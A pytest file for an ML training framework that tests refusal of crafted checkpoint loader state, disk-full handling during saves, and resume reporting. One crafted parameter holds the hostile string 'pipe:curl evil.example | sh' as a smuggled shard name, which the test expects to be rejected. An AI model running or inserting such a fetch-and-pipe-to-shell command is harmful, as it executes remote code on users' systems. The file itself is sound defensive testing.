"""Crafted or damaged run directories and what a resume reports: a loader position that the checkpoint's
steps could not have consumed is refused in one line before any sample is replayed; a disk filling up
during a save keeps the previous checkpoint and says so; a finished run says there is nothing to do and
a resumed one reports what this process ran."""

from __future__ import annotations

import errno
import json
from pathlib import Path

import pytest
import torch
import yaml
from runkit import copy_run, reseal, small

from mmpt.cli import main as cli_main
from mmpt.config import load_config
from mmpt.registry import ConfigError
from mmpt.training.loop import train


@pytest.fixture(scope="module")
def finished(color_shards: list[str], tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A finished 4-step run (checkpoints at steps 2 and 4, one data worker)."""
    run = tmp_path_factory.mktemp("hardening") / "run"
    train(load_config(small(color_shards, run)))
    return run


def _edit_loader(ckpt: Path, **changes: object) -> None:
    path = ckpt / "rank_0.json"
    state = json.loads(path.read_text())
    state["loader"].update(changes)
    path.write_text(json.dumps(state))
    reseal(ckpt)


# (loader keys changed, the key the refusal names): 4 steps x 8 samples drew 32 samples per rank.
CRAFTED = [
    pytest.param({"consumed": [10**9]}, r"loader.consumed\[0\]: 1000000000 raw samples", id="consumed_huge"),
    pytest.param({"consumed": [5000]}, r"loader.consumed\[0\]: 5000 raw samples", id="consumed_too_many"),
    pytest.param({"consumed": [1e9]}, r"loader.consumed\[0\]: expected a non-negative integer", id="consumed_float"),
    pytest.param({"consumed": [-1]}, r"loader.consumed\[0\]: expected a non-negative integer", id="consumed_negative"),
    pytest.param({"consumed": [3, 3]}, r"loader.consumed: 2 data workers, this run has 1", id="workers"),
    pytest.param({"skips": [{"decode_error_image": 10**6}]}, r"loader.skips\[0\].decode_error_image: 1000000 skipped",
                 id="skips_over_consumed"),
    pytest.param({"batches": "many"}, r"loader.batches: expected a non-negative integer", id="batches"),
    pytest.param({"shards": [{"truncated_shard": ["pipe:curl evil.example | sh"]}]},
                 r"loader.shards\[0\].truncated_shard: 'pipe:curl evil.example \| sh' is not one of the configured "
                 r"shards", id="foreign_shard"),
]


@pytest.mark.timeout(120)  # today's code replays the crafted position: a hang must fail, not stall the suite
@pytest.mark.parametrize(("changes", "message"), CRAFTED)
def test_crafted_loader_position_is_refused_in_one_line(finished: Path, color_shards: list[str], tmp_path: Path,
                                                        changes: dict, message: str) -> None:
    run = copy_run(finished, tmp_path / "run")
    ckpt = run / "checkpoints" / "step_00000004"
    _edit_loader(ckpt, **changes)
    with pytest.raises(ConfigError, match=rf"{ckpt / 'rank_0.json'}: {message}") as info:
        train(load_config(small(color_shards, run, steps=6)), resume="latest")
    assert "\n" not in str(info.value)


def test_honest_loader_position_with_skips_resumes(finished: Path, color_shards: list[str], tmp_path: Path) -> None:
    """Skipped samples add to what a worker may have consumed; shard events of the configured shards pass."""
    run = copy_run(finished, tmp_path / "run")
    ckpt = run / "checkpoints" / "step_00000004"
    consumed = json.loads((ckpt / "rank_0.json").read_text())["loader"]["consumed"][0]
    _edit_loader(ckpt, consumed=[consumed + 7], skips=[{"decode_error_image": 7}],
                 shards=[{"truncated_shard": [color_shards[1]]}])
    summary = train(load_config(small(color_shards, run, steps=5)), resume="latest")
    assert summary.steps == 5 and summary.skips["decode_error_image"] == 7


def test_resume_of_a_finished_run_says_there_is_nothing_to_do(finished: Path, color_shards: list[str],
                                                              tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    run = copy_run(finished, tmp_path / "run")
    logs = {p: p.read_bytes() for p in (run / "metrics.jsonl", run / "keys_rank0.jsonl")}
    summary = train(load_config(small(color_shards, run)), resume="latest")
    out = capsys.readouterr().out
    assert f"mmpt: run {run} already finished at step 4 of 4; nothing to do" in out
    assert "done:" not in out and "nan" not in out
    assert summary.steps == 4 and summary.start == 4
    assert all(p.read_bytes() == blob for p, blob in logs.items()), "a run with nothing to do rewrote its logs"
    assert not (run / "configs" / "config-00000004.yaml").exists()
    train(load_config(small(color_shards, run, steps=3)), resume="latest")
    assert f"mmpt: run {run} is at step 4, past train.steps=3; nothing to do" in capsys.readouterr().out


def test_resumed_run_reports_the_steps_this_process_ran(finished: Path, color_shards: list[str], tmp_path: Path,
                                                       capsys: pytest.CaptureFixture) -> None:
    run = copy_run(finished, tmp_path / "run")
    summary = train(load_config(small(color_shards, run, steps=6)), resume="latest")
    out = capsys.readouterr().out
    assert summary.steps == 6 and summary.start == 4
    assert "done: 2 steps (4->6) in " in out and "done: 6 steps" not in out
    rate = float(out.split("done: 2 steps (4->6) in ")[1].split(" s, ")[1].split(" samples/s")[0])
    assert rate == pytest.approx(2 * 8 / summary.seconds, rel=0.05)  # this process's samples over its own time
    metrics = [json.loads(x) for x in open(run / "metrics.jsonl")]
    assert "done: 2 steps (4->6)" in metrics[-1]["summary"]


def _fill_disk_at(monkeypatch: pytest.MonkeyPatch, where: str, tag: str) -> None:
    """Make the save of checkpoint ``tag`` hit a full disk: in DeepSpeed's torch.save (as torch's zip writer
    or as ENOSPC), or in our own write of ``latest`` after the folder was renamed."""
    if where == "latest":
        from mmpt.training import checkpoint

        real = checkpoint._write_atomic

        def write_atomic(path: Path, text: str) -> None:
            if path.name == "latest" and text == tag:
                raise OSError(errno.ENOSPC, "No space left on device", str(path.with_suffix(".tmp")))
            real(path, text)

        monkeypatch.setattr(checkpoint, "_write_atomic", write_atomic)
        return
    real_save = torch.save

    def save(obj: object, f: object, *args: object, **kwargs: object) -> None:
        if f"{tag}.tmp" not in str(f):
            return real_save(obj, f, *args, **kwargs)
        Path(f).write_bytes(b"PK\x03\x04 torn")  # what a full disk leaves: a partial file
        if where in ("torch_writer", "torch_writer_space_left"):
            raise RuntimeError("[enforce fail at inline_container.cc:672] . unexpected pos 4160 vs 4054")
        raise OSError(errno.ENOSPC, "No space left on device", str(f))

    monkeypatch.setattr(torch, "save", save)
    if where == "torch_writer":  # torch's writer error counts as a full disk only when the disk is full
        from mmpt.training import checkpoint

        monkeypatch.setattr(checkpoint, "free_bytes", lambda path: 0)


@pytest.mark.parametrize("where", ["torch_writer", "enospc", "latest"])
def test_disk_full_during_a_save_keeps_the_previous_checkpoint(color_shards: list[str], tmp_path: Path,
                                                              capsys: pytest.CaptureFixture,
                                                              monkeypatch: pytest.MonkeyPatch, where: str) -> None:
    run, recipe = tmp_path / "run", tmp_path / "recipe.yaml"
    recipe.write_text(yaml.safe_dump(small(color_shards, run)))
    with monkeypatch.context() as patch:
        _fill_disk_at(patch, where, "step_00000004")
        assert cli_main(["train", str(recipe)]) != 0
    err = capsys.readouterr().err.strip().splitlines()[-1]
    assert err.startswith("mmpt: error: no space left writing ")
    assert ("latest.tmp" if where == "latest" else "step_00000004.tmp") in err
    assert "; the step-2 checkpoint is intact" in err
    root = run / "checkpoints"
    assert sorted(p.name for p in root.iterdir()) == ["latest", "step_00000002"]
    assert (root / "latest").read_text() == "step_00000002"
    assert cli_main(["train", str(recipe), "--resume", "latest"]) == 0
    assert "steps 2->4" in capsys.readouterr().out
    assert (root / "latest").read_text() == "step_00000004"


def test_disk_full_at_the_first_save_says_no_checkpoint_was_written(
        color_shards: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _fill_disk_at(monkeypatch, "enospc", "step_00000002")
    with pytest.raises(ConfigError, match=r"no space left writing .*step_00000002.tmp.*; no checkpoint was written yet"):
        train(load_config(small(color_shards, tmp_path / "run")))
    assert not any((tmp_path / "run" / "checkpoints").iterdir())


@pytest.mark.multirank
def test_two_ranks_refuse_together(color_shards: list[str], tmp_path: Path) -> None:
    """A problem found on rank 1 only (a crafted loader position, a full disk) stops both ranks with the same
    line within seconds (not the collective timeout), and the run resumes from the intact checkpoint."""
    import os
    import subprocess
    import sys

    from mmpt.training.engine import free_port

    script = Path(__file__).with_name("_rundir_ranks.py")
    env = {**os.environ, "OMP_NUM_THREADS": "1", "MMPT_DIST_TIMEOUT": "60"}
    cmd = [sys.executable, "-m", "torch.distributed.run", "--nproc_per_node", "2", "--master_port", str(free_port()),
           str(script), str(Path(color_shards[0]).parent), str(tmp_path)]
    proc = subprocess.run(cmd, env=env, capture_output=True, text=True, timeout=300)
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    lines = sorted(x for x in proc.stdout.splitlines() if x.startswith("rank "))
    bad = tmp_path / "bad" / "checkpoints" / "step_00000004" / "rank_1.json"
    refused = [x.split(": ", 1)[1] for x in lines if "refused" in x]
    assert len(refused) == 2 and refused[0] == refused[1]
    assert refused[0].startswith(f"refused: {bad}: loader.consumed[0]: 1000000000 raw samples")
    full = [x.split("disk full: ")[1] for x in lines if "disk full" in x]
    assert len(full) == 2 and full[0] == full[1] and "the step-2 checkpoint is intact" in full[0]
    assert [x for x in lines if "resumed" in x] == ["rank 0: resumed 2->4", "rank 1: resumed 2->4"]


def test_torch_writer_error_with_space_left_is_not_called_a_full_disk(color_shards: list[str], tmp_path: Path,
                                                                      capsys: pytest.CaptureFixture,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """The zip writer's error names no cause: with space left it is reported as it is, not as a full disk."""
    run, recipe = tmp_path / "run", tmp_path / "recipe.yaml"
    recipe.write_text(yaml.safe_dump(small(color_shards, run)))
    with monkeypatch.context() as patch:
        _fill_disk_at(patch, "torch_writer_space_left", "step_00000004")
        assert cli_main(["train", str(recipe)]) != 0
    err = capsys.readouterr().err
    assert "no space left" not in err and "unexpected pos" in err
    assert (run / "checkpoints" / "latest").read_text() == "step_00000002"
